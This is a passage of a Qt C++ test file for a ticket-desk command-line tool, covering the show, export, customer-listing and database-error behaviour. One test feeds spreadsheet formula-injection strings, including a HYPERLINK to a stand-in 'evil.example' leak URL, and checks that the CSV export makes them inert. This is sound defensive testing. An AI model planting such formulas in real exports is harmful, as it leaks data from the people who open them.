        refused.detail = QStringLiteral("signature does not match\nany secret");
        refused.peerAddress = QStringLiteral("203.0.113.66");
        QVERIFY(store.recordDelivery(refused) > 0);
    }
    const QString key = byTicketId ? (inCapitals ? t.ticketId.toUpper() : t.ticketId) : QString::number(t.id);
    const Run json = run({QStringLiteral("show"), key, QStringLiteral("--json"), QStringLiteral("--db"), db()});
    QCOMPARE(json.code, 0);
    const QJsonObject shown = QJsonDocument::fromJson(json.out.toUtf8()).object();
    const std::optional<Ticket> parsed = ticketFromJson(shown);
    QVERIFY(parsed);
    QCOMPARE(*parsed, worded(t));
    if (index == 1)
        QCOMPARE(parsed->message, QStringLiteral("Ripio rejected the request (HTTP 400)."));
    const QJsonArray deliveries = shown.value(QStringLiteral("deliveries")).toArray();
    QCOMPARE(deliveries.size(), index == 0 ? 2 : 0);
    if (index == 0) {
        // Newest first.
        QCOMPARE(deliveries[0][QStringLiteral("verdict")].toString(), QStringLiteral("unauthorized"));
        QCOMPARE(deliveries[0][QStringLiteral("peerAddress")].toString(), QStringLiteral("203.0.113.66"));
        QCOMPARE(deliveries[0][QStringLiteral("receivedAt")].toString(), QStringLiteral("2026-06-01T10:00:05.000Z"));
        QCOMPARE(deliveries[1][QStringLiteral("verdict")].toString(), QStringLiteral("applied"));
        QCOMPARE(deliveries[1][QStringLiteral("eventType")].toString(), QStringLiteral("SUPPORT_TICKET.CREATED"));
        QCOMPARE(deliveries[1][QStringLiteral("bodySize")].toInt(), 285);
    }

    const Run text = run({QStringLiteral("show"), key, QStringLiteral("--db"), db()});
    QCOMPARE(text.code, 0);
    QVERIFY(text.out.contains(statusToString(t.status)));
    QVERIFY(text.out.contains(t.customerId));
    for (const Attachment &a : t.attachments)
        QVERIFY2(text.out.contains(QStringLiteral("  %1 (%2, %3 bytes) %4\n")
                                       .arg(a.fileName, a.contentType)
                                       .arg(a.size)
                                       .arg(a.storedPath)),
                 qPrintable(text.out));
    if (t.retriedAs)
        QVERIFY(text.out.contains(QStringLiteral("Retried as:   %1").arg(t.retriedAs)));
    if (t.retryOf)
        QVERIFY(text.out.contains(QStringLiteral("Retry of:     %1").arg(t.retryOf)));
    QVERIFY(text.out.contains(
        QStringLiteral("\nReference:    %1\n").arg(t.reference.isEmpty() ? QStringLiteral("(None)") : t.reference)));
    // Who made it ("created here" said nothing of who, and was wrong for a colleague's).
    const QString origin = t.createdBy.isEmpty() ? QStringLiteral("created in TicketDesk")
                                                 : QStringLiteral("created in TicketDesk by %1").arg(t.createdBy);
    QVERIFY2(text.out.contains(QStringLiteral("\nOrigin:       %1\n").arg(origin)), qPrintable(text.out));
    // Where it was sent, once recorded; nothing said before.
    QCOMPARE(text.out.contains(QStringLiteral("\nSent to:      Ripio sandbox (https://skala-sandbox.ripio.com)\n")),
             index == 0);
    QCOMPARE(text.out.contains(QStringLiteral("Sent to:")), index == 0);
    QCOMPARE(shown.value(QStringLiteral("apiBase")).toString(),
             index == 0 ? QStringLiteral("https://skala-sandbox.ripio.com") : QString());
    if (!t.message.isEmpty())
        QVERIFY2(text.out.contains(QStringLiteral("\nMessage:      %1\n").arg(parsed->message)), qPrintable(text.out));
    QVERIFY2(text.out.contains(QStringLiteral("\nDeliveries:   %1\n").arg(index == 0 ? 2 : 0)), qPrintable(text.out));
    if (index == 0) {
        QVERIFY2(text.out.endsWith(QStringLiteral(
                     "\n  2026-06-01T10:00:05.000Z SUPPORT_TICKET.CREATED unauthorized from 203.0.113.66: signature"
                     " does not match any secret\n  2026-06-01T10:00:00.000Z SUPPORT_TICKET.CREATED applied from"
                     " 198.51.100.7\n")),
                 qPrintable(text.out));
    }
    QCOMPARE(parsed->reference, t.reference);
    QCOMPARE(t.reference.isEmpty(), index != 1 && index != 3);
}

void TestCommandLine::showSaysWhyAFieldIsEmpty_data()
{
    QTest::addColumn<int>("index");
    QTest::addColumn<QStringList>("lines");
    QTest::newRow("created, no reference")
        << 0
        << QStringList{QStringLiteral("Issue key:    SUP-1234"), QStringLiteral("Reference:    (None)"),
                       QStringLiteral("Retry of:     (None: not a retry)"), QStringLiteral("Retried as:   (None)")};
    QTest::newRow("rejected") << 1
                              << QStringList{QStringLiteral("Ticket id:    (None: Ripio refused the request)"),
                                             QStringLiteral("Issue key:    (None: Ripio did not register the ticket)"),
                                             QStringLiteral("Submitted:    (None: Ripio refused the request)"),
                                             QStringLiteral("Outcome:      (None: Ripio refused the request)"),
                                             QStringLiteral("Retry of:     (None: not a retry)"),
                                             QStringLiteral("Retried as:   4")};
    QTest::newRow("queued retry")
        << 3
        << QStringList{QStringLiteral("Ticket id:    (Not yet: Ripio assigns one when it accepts the request)"),
                       QStringLiteral("Issue key:    (Not yet: Ripio gives one when it registers the ticket)"),
                       QStringLiteral("Submitted:    (Not yet)"),
                       QStringLiteral("Outcome:      (Not yet)"),
                       QStringLiteral("Retry of:     2"),
                       QStringLiteral("Retried as:   (None)")};
}

// Every field line of `show` has a value or says why it has none: a blank reads as a value lost.
void TestCommandLine::showSaysWhyAFieldIsEmpty()
{
    QFETCH(int, index);
    QFETCH(QStringList, lines);
    seed();
    const Run text = run({QStringLiteral("show"), QString::number(m_seeded[index].id), QStringLiteral("--db"), db()});
    QCOMPARE(text.code, 0);
    const QStringList out = text.out.split(QLatin1Char('\n'));
    for (const QString &line : lines)
        QVERIFY2(out.contains(line), qPrintable(line + QStringLiteral(" in:\n") + text.out));
    // No label stands alone, and a ticket without a message has no message line.
    static const QRegularExpression bare(QStringLiteral("^[A-Z][a-z ]+:\\s*$"));
    for (const QString &line : out)
        QVERIFY2(!bare.match(line).hasMatch(), qPrintable(line));
    QCOMPARE(text.out.contains(QStringLiteral("\nMessage:")), !m_seeded[index].message.isEmpty());
}

void TestCommandLine::showNotFound()
{
    seed();
    for (const QString &key : {QStringLiteral("999"), QStringLiteral("cccccccc-0000-0000-0000-000000000000")}) {
        const Run r = run({QStringLiteral("show"), key, QStringLiteral("--db"), db()});
        QCOMPARE(r.code, 1);
        QVERIFY(r.out.isEmpty());
        QCOMPARE(r.err.count(QLatin1Char('\n')), 1);
        QVERIFY(r.err.startsWith(QStringLiteral("ticketdesk: ")));
    }
}

// An UNCONFIRMED ticket retried, and then its own webhook came after all: Ripio has the request
// twice. `show` names the other ticket, in words and in JSON; a single registration does not.
void TestCommandLine::showSaysWhenFiledTwice()
{
    ManualClock clock(QDateTime(QDate(2026, 6, 1), QTime(9, 0), Qt::UTC));
    {
        TicketStore store(clock);
        QVERIFY(store.open(db()).ok());
        Ticket t;
        t.customerId = QStringLiteral("aaaaaaaa-0000-0000-0000-000000000007");
        t.summary = QStringLiteral("Deposit missing");
        QVERIFY(store.insertTicket(t) > 0);
        QVERIFY(store
                    .applyFacts({FactInput::forLocal(t.id, Fact::submit(clock.now())),
                                 FactInput::forLocal(t.id, Fact::answerLost(QStringLiteral("timeout"), clock.now()))})
                    .last()
                    .committed);
        const RetryResult retry = store.createRetry(t.id, {});
        QVERIFY(retry.ok());
        const qint64 retryId = retry.retry->id;
        clock.advance(60000);
        const QString first = QStringLiteral("bbbbbbbb-0000-0000-0000-000000000071");
        const QString second = QStringLiteral("bbbbbbbb-0000-0000-0000-000000000072");
        QVERIFY(
            store
                .applyFacts({FactInput::forLocal(retryId, Fact::submit(clock.now())),
                             FactInput::forLocal(retryId, Fact::accepted(second, clock.now())),
                             FactInput::forRemote(Fact::webhook(second, TicketStatus::Created, QStringLiteral("SUP-72"),
                                                                t.customerId, t.summary, clock.now()))})
                .last()
                .committed);
        // Registered once so far (the original's fate unknown): nothing to say.
        const Run before = run({QStringLiteral("show"), QString::number(retryId), QStringLiteral("--db"), db()});
        QCOMPARE(before.code, 0);
        QVERIFY2(!before.out.contains(QStringLiteral("Filed twice")), qPrintable(before.out));
        const Run beforeJson = run(
            {QStringLiteral("show"), QString::number(retryId), QStringLiteral("--json"), QStringLiteral("--db"), db()});
        QCOMPARE(beforeJson.code, 0);
        const QJsonObject once = QJsonDocument::fromJson(beforeJson.out.toUtf8()).object();
        QVERIFY(once.contains(QStringLiteral("filedTwiceWith")));
        QVERIFY(once.value(QStringLiteral("filedTwiceWith")).isNull());
        // The original's own webhook, matched to it by customer and summary.
        const QList<FactOutcome> late = store.applyFacts({FactInput::forRemote(Fact::webhook(
            first, TicketStatus::Created, QStringLiteral("SUP-71"), t.customerId, t.summary, clock.now()))});
        QVERIFY(late.last().committed);
        const std::optional<Ticket> original = store.ticket(t.id);
        QVERIFY(original);
        QCOMPARE(original->status, TicketStatus::Created);
        QCOMPARE(original->ticketId, first);

        const Run text = run({QStringLiteral("show"), QString::number(t.id), QStringLiteral("--db"), db()});
        QCOMPARE(text.code, 0);
        QVERIFY2(text.out.contains(QStringLiteral("\nFiled twice:  Ripio registered this request as ticket %1 too "
                                                  "(SUP-72). Ask Ripio to close one.\n")
                                       .arg(retryId)),
                 qPrintable(text.out));
        const Run json = run(
            {QStringLiteral("show"), QString::number(retryId), QStringLiteral("--json"), QStringLiteral("--db"), db()});
        QCOMPARE(json.code, 0);
        QCOMPARE(
            QJsonDocument::fromJson(json.out.toUtf8()).object().value(QStringLiteral("filedTwiceWith")).toInteger(),
            t.id);
    }
}

// One byte is "1 byte", and a line break in an attachment's name does not start a line of its
// own (a name could fake lines of `show`: the attachments audit).
void TestCommandLine::showWordsAnAttachmentsName()
{
    installTranslators(QStringLiteral("en")); // English plurals are a translation
    ManualClock clock(QDateTime(QDate(2026, 6, 1), QTime(9, 0), Qt::UTC));
    TicketStore store(clock);
    QVERIFY(store.open(db()).ok());
    Ticket t;
    t.customerId = QStringLiteral("aaaaaaaa-0000-0000-0000-000000000008");
    t.summary = QStringLiteral("Odd names");
    t.attachments = {
        Attachment{0, QStringLiteral("new\nline.txt"), QStringLiteral("text/plain"), 1, QStringLiteral("/a")}};
    QVERIFY(store.insertTicket(t) > 0);
    const Run text = run({QStringLiteral("show"), QString::number(t.id), QStringLiteral("--db"), db()});
    QCOMPARE(text.code, 0);
    QVERIFY2(text.out.contains(QStringLiteral("\n  new^Jline.txt (text/plain, 1 byte) /a\n")), qPrintable(text.out));
    QVERIFY2(!text.out.contains(QStringLiteral("\nline.txt")), qPrintable(text.out));
    qDeleteAll(QCoreApplication::instance()->findChildren<QTranslator *>());
}

// An event dated after it arrived (its sender's clock ahead) printed "late … issueDatetime
// -3153599999 s from arrival" (audit 38): it is early, and its distance is said in words.
void TestCommandLine::showSaysAnEventFromTheFutureIsEarly()
{
    installTranslators(QStringLiteral("en")); // English plurals are a translation
    ManualClock clock(QDateTime(QDate(2026, 6, 1), QTime(9, 0), Qt::UTC));
    TicketStore store(clock);
    QVERIFY(store.open(db()).ok());
    Ticket t;
    t.customerId = QStringLiteral("aaaaaaaa-0000-0000-0000-000000000009");
    t.summary = QStringLiteral("From the future");
    t.ticketId = QStringLiteral("cccccccc-0000-0000-0000-000000000009");
    QVERIFY(store.insertTicket(t) > 0);
    for (const qint64 skewSeconds : {-7200, 7200}) {
        DeliveryRecord d;
        d.receivedAt = clock.now();
        d.eventTime = clock.now().addSecs(-skewSeconds);
        d.skewMs = skewSeconds * 1000;
        d.eventType = QStringLiteral("SUPPORT_TICKET.CREATED");
        d.ticketId = t.ticketId;
        d.localTicketId = t.id;
        d.verdict = QStringLiteral("late");
        d.detail = QStringLiteral("issueDatetime %1 s from arrival; applied").arg(skewSeconds);
        d.peerAddress = QStringLiteral("198.51.100.7");
        QVERIFY(store.recordDelivery(d) > 0);
        clock.advance(1000);
    }
    const Run text = run({QStringLiteral("show"), QString::number(t.id), QStringLiteral("--db"), db()});
    QCOMPARE(text.code, 0);
    QVERIFY2(
        text.out.contains(QStringLiteral(
            "\n  2026-06-01T09:00:00.000Z SUPPORT_TICKET.CREATED early from 198.51.100.7: issued 2 h 0 min after it "
            "arrived; Valid\n")),
        qPrintable(text.out));
    QVERIFY2(
        text.out.contains(QStringLiteral(
            "\n  2026-06-01T09:00:01.000Z SUPPORT_TICKET.CREATED late from 198.51.100.7: issued 2 h 0 min before it "
            "arrived; Valid\n")),
        qPrintable(text.out));
    QVERIFY2(!text.out.contains(QStringLiteral("from arrival")), qPrintable(text.out));
    qDeleteAll(QCoreApplication::instance()->findChildren<QTranslator *>());
}

void TestCommandLine::exportFiles_data()
{
    QTest::addColumn<QString>("fileName");
    QTest::addColumn<QStringList>("extra");
    QTest::addColumn<QList<int>>("expected");
    QTest::newRow("csv") << QStringLiteral("out.csv") << QStringList{} << QList<int>{0, 1, 2, 3};
    QTest::newRow("CSV upper case") << QStringLiteral("OUT.CSV") << QStringList{} << QList<int>{0, 1, 2, 3};
    QTest::newRow("csv rejected") << QStringLiteral("out.csv")
                                  << QStringList{QStringLiteral("--status"), QStringLiteral("rejected")}
                                  << QList<int>{1};
    QTest::newRow("json") << QStringLiteral("out.json") << QStringList{} << QList<int>{0, 1, 2, 3};
    // `-`: the same CSV on stdout, for a pipe; nothing else printed there.
    QTest::newRow("csv on stdout") << QStringLiteral("-") << QStringList{} << QList<int>{0, 1, 2, 3};
    QTest::newRow("csv on stdout, rejected")
        << QStringLiteral("-") << QStringList{QStringLiteral("--status"), QStringLiteral("rejected")} << QList<int>{1};
    QTest::newRow("json empty") << QStringLiteral("out.json")
                                << QStringList{QStringLiteral("--status"), QStringLiteral("FAILED")} << QList<int>{};
}

void TestCommandLine::exportFiles()
{
    QFETCH(QString, fileName);
    QFETCH(QStringList, extra);
    QFETCH(QList<int>, expected);
    seed();
    const bool toStdout = fileName == QLatin1StringView("-");
    const QString path = toStdout ? fileName : m_dir->filePath(fileName);
    const Run r = run(QStringList{QStringLiteral("export"), path, QStringLiteral("--db"), db()} + extra);
    QCOMPARE(r.code, 0);
    QVERIFY(r.err.isEmpty());
    QByteArray content = r.out.toUtf8();
    if (!toStdout) {
        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        content = file.readAll();
    }

    if (fileName.endsWith(QStringLiteral(".json"))) {
        const QJsonArray array = QJsonDocument::fromJson(content).array();
        QCOMPARE(array.size(), expected.size());
        for (qsizetype i = 0; i < array.size(); ++i)
            QCOMPARE(*ticketFromJson(array[i].toObject()), worded(m_seeded[expected[i]]));
        return;
    }
    const QList<QStringList> rows = parseCsv(QString::fromUtf8(content));
    QCOMPARE(rows.size(), expected.size() + 1);
    const QStringList header = rows[0];
    QCOMPARE(header.first(), QStringLiteral("id"));
    // Who created each ticket: the operator, as in `show` and the desktop's Operator column; then
    // where it was sent. Both after the older columns, which keep their places.
    QCOMPARE(header.mid(header.size() - 2), (QStringList{QStringLiteral("createdBy"), QStringLiteral("apiBase")}));
    for (qsizetype i = 1; i < rows.size(); ++i) {
        QCOMPARE(rows[i].size(), header.size());
        const Ticket &t = m_seeded[expected[i - 1]];
        const auto col = [&](const char *name) { return rows[i][header.indexOf(QString::fromLatin1(name))]; };
        QCOMPARE(col("id"), QString::number(t.id));
        QCOMPARE(col("summary"), t.summary);
        QCOMPARE(col("description"), t.description);
        QCOMPARE(col("status"), statusToString(t.status));
        QCOMPARE(col("issueKey"), t.issueKey);
        QCOMPARE(col("customerId"), t.customerId);
        // An operator's text like any other: a leading '=' made inert.
        QCOMPARE(col("reference"), t.reference.isEmpty() ? QString() : QLatin1Char('\'') + t.reference);
        QCOMPARE(col("retriedAs"), t.retriedAs ? QString::number(t.retriedAs) : QString());
        QCOMPARE(col("createdBy"), t.createdBy);
        QCOMPARE(col("apiBase"), t.apiBase);
        QCOMPARE(QDateTime::fromString(col("createdAt"), Qt::ISODateWithMs), t.createdAt);
    }
    if (expected.contains(1))
        QVERIFY(content.contains("\"Refund, \"\"urgent\"\"\nsecond line\""));
}

void TestCommandLine::exportNeutralisesFormulas()
{
    // Customer-supplied text that a spreadsheet would run: each must arrive as inert text.
    const QStringList formulas{
        QStringLiteral("=HYPERLINK(\"http://evil.example/?leak\",\"x\")"),
        QStringLiteral("+1+1"),
        QStringLiteral("-2+3"),
        QStringLiteral("@SUM(A1:A2)"),
    };
    {
        ManualClock clock(QDateTime(QDate(2026, 6, 1), QTime(9, 0), Qt::UTC));
        TicketStore store(clock);
        QVERIFY(store.open(db()).ok());
        for (const QString &formula : formulas) {
            Ticket t;
            t.customerId = QStringLiteral("aaaaaaaa-0000-0000-0000-000000000001");
            t.summary = formula;
            t.description = QStringLiteral("=1+1");
            QVERIFY(store.insertTicket(t) > 0);
        }
    }
    const QString path = m_dir->filePath(QStringLiteral("formulas.csv"));
    const Run r = run({QStringLiteral("export"), path, QStringLiteral("--db"), db()});
    QCOMPARE(r.code, 0);
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray content = file.readAll();
    const QList<QStringList> rows = parseCsv(QString::fromUtf8(content));
    QCOMPARE(rows.size(), formulas.size() + 1);
    const qsizetype summary = rows[0].indexOf(QStringLiteral("summary"));
    const qsizetype description = rows[0].indexOf(QStringLiteral("description"));
    QVERIFY(summary >= 0 && description >= 0);
    for (qsizetype i = 0; i < formulas.size(); ++i) {
        QCOMPARE(rows[i + 1][summary], QLatin1Char('\'') + formulas[i]);
        QCOMPARE(rows[i + 1][description], QStringLiteral("'=1+1"));
    }
    // No cell of the file starts with a formula character.
    for (const QStringList &row : rows) {
        for (const QString &cell : row)
            QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@").contains(cell.front()), qPrintable(cell));
    }
    QVERIFY(content.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"x\"\")\""));
}

void TestCommandLine::exportToAFullDiskKeepsTheOldFile_data()
{
    QTest::addColumn<QString>("fileName");
    QTest::newRow("csv") << QStringLiteral("out.csv");
    QTest::newRow("json") << QStringLiteral("out.json");
}

void TestCommandLine::exportToAFullDiskKeepsTheOldFile()
{
    // It said "Exported 4 tickets", exited 0 and left an empty file where the good one was:
    // the last bytes, still in the device's buffer, failed to reach the disk unnoticed.
    QFETCH(QString, fileName);
    seed();
    const QString path = m_dir->filePath(fileName);
    QCOMPARE(run({QStringLiteral("export"), path, QStringLiteral("--db"), db()}).code, 0);
    const auto contentOf = [&path] {
        QFile file(path);
        return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
    };
    const QByteArray good = contentOf();
    QVERIFY(good.size() > 400);

    // Held open here, the database's shared memory needs no growing: the export only reads.
    const SystemClock clock;
    TicketStore holder(clock);
    QVERIFY(holder.open(db()).ok());
    Run r;
    {
        const Test::FileSizeLimit limit(400);
        QVERIFY(limit.ok());
        r = run({QStringLiteral("export"), path, QStringLiteral("--db"), db()});
    }
    QCOMPARE(r.code, 1);
    QVERIFY2(r.err.contains(QStringLiteral("cannot write ") + QDir::toNativeSeparators(path)), qPrintable(r.err));
    QVERIFY2(!r.err.contains(QStringLiteral("Unknown error")), qPrintable(r.err));
    QVERIFY2(!r.out.contains(QStringLiteral("Exported")), qPrintable(r.out));
    QCOMPARE(contentOf(), good);
    QCOMPARE(QDir(m_dir->path()).entryList({fileName + QLatin1Char('*')}, QDir::Files | QDir::Hidden),
             QStringList{fileName});
}

void TestCommandLine::unopenableDatabase_data()
{
    QTest::addColumn<QString>("kind");
    QTest::newRow("directory") << QStringLiteral("directory");
    QTest::newRow("not a database") << QStringLiteral("garbage");
}

void TestCommandLine::unopenableDatabase()
{
    QFETCH(QString, kind);
    QString path = m_dir->filePath(QStringLiteral("bad.sqlite"));
    if (kind == QLatin1StringView("directory")) {
        QVERIFY(QDir().mkpath(path));
    } else {
        QFile f(path);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write(QByteArray(8192, 'z'));
    }
    for (const QStringList &args :
         {QStringList{QStringLiteral("list")}, QStringList{QStringLiteral("show"), QStringLiteral("1")},
          QStringList{QStringLiteral("export"), m_dir->filePath(QStringLiteral("x.csv"))}}) {
        const Run r = run(args + QStringList{QStringLiteral("--db"), path});
        QCOMPARE(r.code, 1);
        QVERIFY(r.out.isEmpty());
        QCOMPARE(r.err.count(QLatin1Char('\n')), 1);
        QVERIFY(r.err.startsWith(QStringLiteral("ticketdesk: ")));
        QVERIFY(r.err.contains(path));
        // What to do next, not only what is wrong.
        if (kind != QLatin1StringView("directory"))
            QVERIFY2(r.err.contains(QStringLiteral("Check that this is the database file you meant")),
                     qPrintable(r.err));
    }
    QVERIFY(!QFile::exists(m_dir->filePath(QStringLiteral("x.csv"))));
}

void TestCommandLine::notADatabaseAddress_data()
{
    QTest::addColumn<QStringList>("command");
    QTest::addColumn<QString>("address");
    QTest::addColumn<QString>("says");

    const QString customer = QStringLiteral("6f1c2a7e-8b1d-4c55-9a0e-3d2f4b5c6a71");
    const QList<QStringList> commands{
        {QStringLiteral("list")},
        {QStringLiteral("show"), QStringLiteral("1")},
        {QStringLiteral("stats")},
        {QStringLiteral("watch")},
        {QStringLiteral("customers"), QStringLiteral("list")},
        {QStringLiteral("db"), QStringLiteral("status")},
        {QStringLiteral("retry"), QStringLiteral("1")},
        {QStringLiteral("create"), QStringLiteral("--customer"), customer, QStringLiteral("--summary"),
         QStringLiteral("Card blocked")},
        {QStringLiteral("serve"), QStringLiteral("--listen"), QStringLiteral("127.0.0.1:0")},
    };
    for (const QStringList &command : commands) {
        const QByteArray name = command.first().toUtf8();
        QTest::addRow("%s, empty", name.constData()) << command << QString() << u"No database was given"_qs;
        QTest::addRow("%s, another product's URL", name.constData())
            << command << u"mysql://db.example/td"_qs << u"is not a database address"_qs;
        QTest::addRow("%s, unreadable URL", name.constData())
            << command << u"postgresql://[::1"_qs << u"could not be read"_qs;
    }
}

// What follows --db names no database: said as such, a usage error. It was taken for a SQLite
// file with an empty path ("The folder  cannot be created or entered").
void TestCommandLine::notADatabaseAddress()
{
    QFETCH(QStringList, command);
    QFETCH(QString, address);
    QFETCH(QString, says);
    const Run r = run(command + QStringList{QStringLiteral("--db"), address});
    QCOMPARE(r.code, 2);
    QVERIFY(r.out.isEmpty());
    QVERIFY2(r.err.startsWith(QStringLiteral("ticketdesk: ")) && r.err.contains(says), qPrintable(r.err));
    QVERIFY2(!r.err.contains(u"folder"_qs), qPrintable(r.err));
}

void TestCommandLine::customersList()
{
    createEmpty();
    const Run empty = run({QStringLiteral("customers"), QStringLiteral("list"), QStringLiteral("--db"), db()});
    QCOMPARE(empty.code, 0);
    QCOMPARE(empty.out, QStringLiteral("No customers.\n"));
    QVERIFY(empty.err.isEmpty());

    seed();
    const Run r = run({QStringLiteral("customers"), QStringLiteral("list"), QStringLiteral("--db"), db()});
    QCOMPARE(r.code, 0);
    QVERIFY(r.err.isEmpty());
    const QStringList lines = r.out.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), 4); // header + the three customers of the tickets, by id
    QVERIFY(lines[0].startsWith(QStringLiteral("ID")));
    const qsizetype nameColumn = lines[0].indexOf(QStringLiteral("NAME"));
    const qsizetype emailColumn = lines[0].indexOf(QStringLiteral("EMAIL"));
    const qsizetype refColumn = lines[0].indexOf(QStringLiteral("EXTERNAL REF"));
    const qsizetype closedColumn = lines[0].indexOf(QStringLiteral("CLOSED"));
    const qsizetype seenColumn = lines[0].indexOf(QStringLiteral("LAST SEEN (UTC)"));
    QVERIFY(nameColumn > 0 && emailColumn > nameColumn && refColumn > emailColumn && closedColumn > refColumn &&
            seenColumn > closedColumn);
    QVERIFY(lines[1].startsWith(QStringLiteral("aaaaaaaa-0000-0000-0000-000000000001")));
    QCOMPARE(lines[1].indexOf(QStringLiteral("María López")), nameColumn);
    QCOMPARE(lines[1].indexOf(QStringLiteral("maria@example.com")), emailColumn);
    QCOMPARE(lines[1].indexOf(QStringLiteral("CRM-1")), refColumn);
    QCOMPARE(lines[1].indexOf(QStringLiteral("no")), closedColumn);
    QCOMPARE(lines[1].indexOf(QStringLiteral("2026-06-01 09:")), seenColumn);
    QVERIFY(lines[3].startsWith(QStringLiteral("aaaaaaaa-0000-0000-0000-000000000003")));
    QCOMPARE(lines[3].indexOf(QStringLiteral("yes")), closedColumn);
}

void TestCommandLine::customersListJson()
{
    seed();
    const Run r = run(
        {QStringLiteral("customers"), QStringLiteral("list"), QStringLiteral("--json"), QStringLiteral("--db"), db()});
    QCOMPARE(r.code, 0);
    QVERIFY(r.err.isEmpty());
    QJsonParseError error;
    const QJsonDocument doc = QJsonDocument::fromJson(r.out.toUtf8(), &error);
    QCOMPARE(error.error, QJsonParseError::NoError);
    QVERIFY(doc.isArray());
    const QJsonArray array = doc.array();
    QCOMPARE(array.size(), 3);
    ManualClock clock(QDateTime::currentDateTimeUtc());
    TicketStore store(clock);
    QVERIFY(store.open(db()).ok());
    const QList<CustomerRecord> customers = store.customers();
    QCOMPARE(customers.size(), 3);
    for (qsizetype i = 0; i < array.size(); ++i)
        QCOMPARE(array[i].toObject(), customerToJson(customers[i]));
    const QJsonObject first = array[0].toObject();
    QCOMPARE(first.value(QLatin1StringView("name")).toString(), QStringLiteral("María López"));
    QCOMPARE(first.value(QLatin1StringView("externalRef")).toString(), QStringLiteral("CRM-1"));
    QCOMPARE(first.value(QLatin1StringView("closed")).toBool(true), false);
    QCOMPARE(array[2].toObject().value(QLatin1StringView("closed")).toBool(), true);

    const QString empty = m_dir->filePath(QStringLiteral("empty.sqlite"));
    createEmpty(empty);
    const Run none = run(
        {QStringLiteral("customers"), QStringLiteral("list"), QStringLiteral("--json"), QStringLiteral("--db"), empty});
    QCOMPARE(none.code, 0);
    QCOMPARE(QJsonDocument::fromJson(none.out.toUtf8()).array().size(), 0);
}

void TestCommandLine::customersUsage_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<int>("code");
    QTest::addColumn<QString>("message");
    QTest::newRow("no subcommand") << QStringList{QStringLiteral("customers")} << 2
                                   << QStringLiteral("expected a subcommand");
    QTest::newRow("option first") << QStringList{QStringLiteral("customers"), QStringLiteral("--json")} << 2
                                  << QStringLiteral("expected a subcommand");
    QTest::newRow("unknown subcommand") << QStringList{QStringLiteral("customers"), QStringLiteral("purge")} << 2
                                        << QStringLiteral("unknown subcommand 'purge'");
    QTest::newRow("extra argument") << QStringList{QStringLiteral("customers"), QStringLiteral("list"),
                                                   QStringLiteral("all")}
                                    << 2 << QStringLiteral("unexpected argument 'all'");
    QTest::newRow("unknown option") << QStringList{QStringLiteral("customers"), QStringLiteral("list"),
                                                   QStringLiteral("--bogus")}
                                    << 2 << QStringLiteral("bogus");
    QTest::newRow("import without a file") << QStringList{QStringLiteral("customers"), QStringLiteral("import")} << 2
                                           << QStringLiteral("expected exactly one FILE");
    QTest::newRow("import with two files") << QStringList{QStringLiteral("customers"), QStringLiteral("import"),
                                                          QStringLiteral("a.csv"), QStringLiteral("b.csv")}
                                           << 2 << QStringLiteral("expected exactly one FILE");
}

void TestCommandLine::customersUsage()
{
    QFETCH(QStringList, args);
    QFETCH(int, code);
    QFETCH(QString, message);
    const Run r = run(args + QStringList{QStringLiteral("--db"), db()});
    QCOMPARE(r.code, code);
    QVERIFY(r.out.isEmpty());
    QVERIFY2(r.err.startsWith(QStringLiteral("ticketdesk: customers")), qPrintable(r.err));
    QVERIFY2(r.err.contains(message), qPrintable(r.err));
    QVERIFY(r.err.contains(QStringLiteral("--help")));
    QVERIFY(!QFile::exists(db()));

    // A directory that cannot be opened is a runtime failure.
    const Run broken =
        run({QStringLiteral("customers"), QStringLiteral("list"), QStringLiteral("--db"), m_dir->path()});
    QCOMPARE(broken.code, 1);
    QCOMPARE(broken.err.count(QLatin1Char('\n')), 1);
}

QTEST_GUILESS_MAIN(TestCommandLine)
#include "tst_commandline.moc"
